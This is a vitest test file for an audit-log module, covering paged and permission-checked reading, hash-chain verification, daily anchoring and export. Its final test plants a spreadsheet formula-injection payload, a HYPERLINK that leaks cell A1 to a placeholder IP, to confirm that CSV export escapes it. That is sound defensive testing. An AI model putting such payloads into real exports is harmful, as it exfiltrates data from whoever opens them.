import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { expect, test } from 'vitest';
import type { Content } from '#kernel/message.ts';
import { handClock } from '#kit/clocks.ts';
import { startMemoryHub } from '#kit/memory-hub.ts';
import { failureOf } from '#kit/failure-of.ts';
import { administrator, callBy, viewer, wards } from '../hub/test-hub.ts';
import { auditModule } from './audit-module.ts';

async function start(options: { readonly lookMs?: number } = {}) {
  const clock = handClock();
  const { hub, store } = await startMemoryHub(
    ({ store }) => [auditModule({ rows: store.records.auditRows, ...options }), wards(async () => ({ name: 'north', number: 1 }))],
    { clock },
  );
  const ask = async <T>(operation: string, input: object = {}) => (await hub.perform(operation, input, callBy(administrator))).output as T;
  const anchors = () => store.log.readAll({ after: 0, filter: { types: ['audit.anchored'] } });
  return { hub, store, clock, ask, anchors };
}

interface Page {
  readonly items: readonly { readonly id: string; readonly seq: number; readonly operation: string; readonly outcome: string }[];
  readonly next_cursor: string | null;
}

test('the audit is read page by page, newest first, and only by whom it was given to by name', async () => {
  const { hub, ask } = await start();
  for (const name of ['a', 'b', 'c']) await ask('ward.open', { name });
  const first = await ask<Page>('audit.list', { operation: 'ward.*', limit: 2 });
  expect(first.items.map(({ seq }) => seq)).toEqual([3, 2]);
  const second = await ask<Page>('audit.list', { operation: 'ward.*', limit: 2, cursor: first.next_cursor! });
  expect(second).toMatchObject({ items: [{ seq: 1, operation: 'ward.open' }], next_cursor: null });
  const whole = await ask('audit.get', { id: second.items[0]!.id });
  expect(whole).toMatchObject({
    seq: 1,
    prev: '0'.repeat(64),
    hash: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
    input: { name: 'a' },
  });
  expect(await failureOf(hub.perform('audit.list', {}, callBy(viewer)))).toMatchObject({ code: 'forbidden' });
  expect(await failureOf(ask('audit.get', { id: '00000000-0000-4000-8000-000000000000' }))).toMatchObject({ code: 'not_found' });
});

test('who looks at the audit is in it, and so is who may not', async () => {
  const { hub, ask } = await start();
  await ask('audit.list');
  await failureOf(hub.perform('audit.export', {}, callBy(viewer)));
  const { items } = await ask<Page>('audit.list', { operation: 'audit.*' });
  expect(items).toMatchObject([
    { operation: 'audit.export', outcome: 'refused' },
    { operation: 'audit.list', outcome: 'done' },
  ]);
});

test('a whole chain is told to be whole', async () => {
  const { ask } = await start();
  for (const name of ['a', 'b', 'c']) await ask('ward.open', { name });
  expect(await ask('audit.verify')).toMatchObject({ ok: true, rows: 3, older_rows: 0, head: { seq: 3 }, first_bad: null });
});

test('the head is written to the log once a day, and at the stop', async () => {
  const { hub, clock, ask, anchors, store } = await start({ lookMs: 5 });
  await ask('ward.open', { name: 'a' });
  await expect.poll(async () => (await anchors()).length).toBe(1);
  expect((await anchors())[0]).toMatchObject({ subject: 'audit', data: await store.records.auditRows.head() });
  await ask('ward.open', { name: 'b' });
  clock.advance(86_399_999);
  await ask('ward.open', { name: 'c' });
  expect(await anchors()).toHaveLength(1);
  clock.advance(1);
  await expect.poll(async () => (await anchors()).length).toBe(2);
  await ask('ward.open', { name: 'd' });
  await hub.stop();
  const last = (await anchors()).at(-1)!;
  expect(last.data).toEqual(await store.records.auditRows.head());
  expect(await store.records.auditRows.verify()).toMatchObject({ ok: true, rows: 4, anchors: { count: 3 } });
});

test('what is exported can be checked without us', async () => {
  const { ask } = await start();
  for (const name of ['a', 'b']) await ask('ward.open', { name });
  const { bytes, fileName } = await ask<Content>('audit.export', {});
  expect(fileName).toBe('audit-2026-11-23.jsonl');
  const lines = (await text(Readable.from(bytes))).trim().split('\n');
  let prev = '0'.repeat(64);
  for (const line of lines) {
    // Canonical already: the row without its hash is the text without that field.
    const { hash } = JSON.parse(line) as { readonly hash: string };
    const unsealed = line.replace(`"hash":"${hash}",`, '');
    expect(createHash('sha256').update(unsealed).digest('hex')).toBe(hash);
    expect((JSON.parse(line) as { readonly prev: string }).prev).toBe(prev);
    prev = hash;
  }
  expect(lines).toHaveLength(3);
});

test('a spreadsheet takes nothing that is exported for a formula', async () => {
  const { ask, hub } = await start();
  const name = '=HYPERLINK("http://198.51.100.1/?"&A1,"open")';
  await hub.perform('ward.open', { name: 'a' }, callBy({ ...administrator, name }, { userAgent: '@SUM(1+1)', requestId: '-2+3' }));
  const { bytes } = await ask<Content>('audit.export', { format: 'csv', operation: 'ward.open' });
  const csv = await text(Readable.from(bytes));
  expect(csv).toContain(`"'=HYPERLINK(""http://198.51.100.1/?""&A1,""open"")"`);
  expect(csv).toContain(`"'@SUM(1+1)"`);
  expect(csv).toContain(`"'-2+3"`);
  for (const field of csv.split('\r\n')[1]!.split('","')) expect(field).not.toMatch(/^"?[=+\-@\t]/);
});
